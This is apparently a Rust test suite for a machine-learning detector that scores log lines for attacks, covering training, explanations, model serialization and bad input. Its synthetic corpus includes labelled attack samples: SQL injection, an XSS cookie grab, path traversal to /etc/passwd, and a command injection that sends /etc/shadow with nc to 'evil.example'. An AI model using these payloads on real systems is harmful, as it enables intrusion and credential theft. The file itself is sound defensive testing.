//! The end-to-end detector: fitting, scoring, explaining, persistence and bad input.

use soc_core::{DetectorParams, Error, Fired, Severity, text::to_text};

fn corpus() -> (Vec<String>, Vec<bool>) {
    let users = ["alice", "bob", "carol", "dave", "erin"];
    let pages = ["index", "products", "cart", "search", "about", "login"];
    let mut lines = Vec::new();
    let mut labels = Vec::new();
    for i in 0..600 {
        let line = match i % 3 {
            0 => format!(
                "GET /{}.html?page={} HTTP/1.1 200 {}",
                pages[i % pages.len()],
                i % 13,
                1000 + i
            ),
            1 => format!(
                "sshd: Accepted password for {} from 10.0.{}.{} port 22",
                users[i % 5],
                i % 7,
                i % 200
            ),
            _ => format!(
                "CRON: session opened for user {} by uid {}",
                users[(i / 3) % 5],
                i % 4
            ),
        };
        lines.push(line);
        labels.push(false);
    }
    let attacks = [
        "GET /products.html?id=1' UNION SELECT password FROM users-- HTTP/1.1",
        "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1",
        "GET /../../../../etc/passwd HTTP/1.1",
        "GET /cgi-bin/test.sh?cmd=;cat%20/etc/shadow|nc%20evil.example%204444 HTTP/1.1",
    ];
    for i in 0..60 {
        lines.push(format!("{} {}", attacks[i % attacks.len()], i));
        labels.push(true);
    }
    (lines, labels)
}

fn params() -> DetectorParams {
    let mut params = DetectorParams {
        random_state: Some(11),
        n_jobs: Some(1),
        ..DetectorParams::default()
    };
    params.forest.n_estimators = 20;
    params.isolation.n_estimators = 50;
    params
}

#[test]
fn supervised_detector_flags_attacks_and_explains_them() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let attack = "GET /cart.html?id=7' UNION SELECT card FROM users-- HTTP/1.1";
    let benign = "GET /about.html?page=3 HTTP/1.1 200 1234";
    let (a, b) = (detector.score_one(attack), detector.score_one(benign));
    assert!(a.risk > b.risk + 3.0, "{a:?} vs {b:?}");
    assert!(a.severity >= Severity::High && b.severity <= Severity::Medium);
    assert!(detector.is_threat(a.risk) && !detector.is_threat(b.risk));

    let why = detector.explain(attack);
    assert_eq!(why.score, a);
    assert!(matches!(why.fired, Fired::Classifier | Fired::Both));
    let top: Vec<&str> = why
        .top_terms
        .iter()
        .take(4)
        .map(|t| t.term.as_str())
        .collect();
    assert!(
        top.iter().any(|t| ["union", "select", "users"].contains(t)),
        "{top:?}"
    );
    assert!(
        why.unusual_features
            .iter()
            .any(|f| f.feature == "quotes" || f.feature == "comment_markers")
    );
    // The explanation is what the server stores.
    let json = serde_json::to_value(&why).unwrap();
    assert_eq!(
        json["fired"],
        serde_json::json!(if why.fired == Fired::Both {
            "both"
        } else {
            "classifier"
        })
    );
}

#[test]
fn unsupervised_detector_ranks_odd_lines_higher() {
    let (lines, labels) = corpus();
    let benign: Vec<&String> = lines
        .iter()
        .zip(&labels)
        .filter(|(_, l)| !**l)
        .map(|(t, _)| t)
        .collect();
    let detector = params().fit(&benign, None).unwrap();
    assert!(detector.classifier().is_none());
    let scores = detector.score(&lines);
    let risks: Vec<f64> = scores.iter().map(|s| s.risk).collect();
    let auc = soc_core::metrics::roc_auc(&risks, &labels).unwrap();
    assert!(auc > 0.9, "anomaly-only ROC AUC {auc}");
    assert!(scores.iter().all(|s| s.malicious_probability == 0.0));
}

#[test]
fn batch_equals_one_by_one_and_threads_do_not_change_the_model() {
    let (lines, labels) = corpus();
    let one = params().fit(&lines, Some(&labels)).unwrap();
    let two = DetectorParams {
        n_jobs: Some(2),
        ..params()
    }
    .fit(&lines, Some(&labels))
    .unwrap();
    let (rf1, rf2) = (one.classifier().unwrap(), two.classifier().unwrap());
    assert_eq!(rf1.feature_importances(), rf2.feature_importances());
    assert_eq!(
        (rf1.n_nodes(), rf1.max_tree_depth()),
        (rf2.n_nodes(), rf2.max_tree_depth())
    );
    let batch = two.score(&lines);
    for (line, score) in lines.iter().zip(&batch) {
        assert_eq!(*score, one.score_one(line));
    }
}

#[test]
fn round_trips_through_the_artifact_format() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let bytes = detector.to_bytes();
    let header = soc_core::read_header(&bytes).unwrap();
    assert_eq!(header.kind, "detector");
    assert_eq!(header.metrics["n_malicious"], 60);
    let loaded = soc_core::Detector::from_bytes(&bytes).unwrap();
    assert_eq!(loaded, detector);
    assert_eq!(loaded.score(&lines), detector.score(&lines));

    let path = std::env::temp_dir().join(format!("soc-detector-{}.cgsoc", std::process::id()));
    detector.save(&path).unwrap();
    assert_eq!(soc_core::Detector::load(&path).unwrap(), detector);
    std::fs::remove_file(&path).unwrap();

    // Every truncation and a flipped byte anywhere is an error, never a panic.
    for len in (0..bytes.len()).step_by(bytes.len() / 97 + 1) {
        assert!(soc_core::Detector::from_bytes(&bytes[..len]).is_err());
    }
    for at in (0..bytes.len()).step_by(bytes.len() / 131 + 1) {
        let mut bad = bytes.clone();
        bad[at] ^= 0x5a;
        assert!(
            soc_core::Detector::from_bytes(&bad).is_err(),
            "flipped byte {at}"
        );
    }
    // A vectorizer is not a detector.
    let tfidf = detector.vectorizer().to_bytes();
    assert!(matches!(
        soc_core::Detector::from_bytes(&tfidf),
        Err(Error::InvalidModel(_))
    ));
}

#[test]
fn bad_input_is_a_typed_error() {
    let (lines, labels) = corpus();
    let empty: [&str; 0] = [];
    assert!(matches!(
        params().fit(&empty, None),
        Err(Error::InvalidInput(_))
    ));
    let benign_only = vec![false; lines.len()];
    let err = params().fit(&lines, Some(&benign_only)).unwrap_err();
    assert!(
        err.to_string().contains("both benign and malicious"),
        "{err}"
    );
    assert!(matches!(
        params().fit(&lines, Some(&labels[1..])),
        Err(Error::ShapeMismatch { .. })
    ));
    let bad = DetectorParams {
        max_line_bytes: 0,
        ..params()
    };
    assert!(matches!(
        bad.fit(&lines, None),
        Err(Error::InvalidParameter { .. })
    ));
    // Lines with no word at all leave the vocabulary empty.
    assert!(params().fit(&["!!", "??"], None).is_err());
    // One distinct line fits, but gives the isolation forest nothing to contrast: every line
    // gets the same, low anomaly (documented on `DetectorParams::fit`).
    let same = vec!["the same line"; 50];
    let detector = params().fit(&same, None).unwrap();
    let (a, b) = (
        detector.score_one("the same line"),
        detector.score_one("' OR 1=1 -- ;cat /etc/passwd"),
    );
    assert_eq!(a, b);
    assert!(a.risk < 7.0);
}

#[test]
fn odd_lines_are_scored_safely() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let huge = "A' OR 1=1 -- ".repeat(400_000); // ~5 MB
    let garbage = to_text(b"\xff\xfe id=\xc3 \x00\x01 UNION");
    for line in [
        "",
        " ",
        "\u{feff}",
        "日本語のログ",
        huge.as_str(),
        garbage.as_ref(),
    ] {
        let score = detector.score_one(line);
        assert!((0.0..=10.0).contains(&score.risk), "{line:.20}: {score:?}");
    }
    // Only the first max_line_bytes count: a 5 MB line scores as its prefix.
    let cut = &huge[..soc_core::DEFAULT_MAX_LINE_BYTES];
    assert_eq!(detector.score_one(&huge), detector.score_one(cut));
}
